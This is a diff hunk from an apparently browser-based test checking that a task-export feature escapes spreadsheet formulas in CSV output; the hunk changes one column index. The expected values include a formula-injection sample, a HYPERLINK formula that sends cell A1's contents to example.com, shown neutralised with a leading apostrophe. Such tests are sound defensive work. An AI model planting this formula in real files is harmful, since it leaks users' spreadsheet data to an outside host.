@@ -315,7 +315,7 @@ test("a pasted task that a spreadsheet would run as a formula is exported to CSV
         ['\'=HYPERLINK("http://example.com/?d="&A1,"点击查看")', "'@SUM(1+1)推进工作", "'+1+2 推进工作", "'-2+3 推进工作"],
       );
       assert.equal(records[1][6], "'=1+2局");
-      assert.equal(records[2][9], "'=1+1");
+      assert.equal(records[2][10], "'=1+1");
       assert.equal(records[0][5], "市发改局");
     },
     { contextOptions: { acceptDownloads: true } },
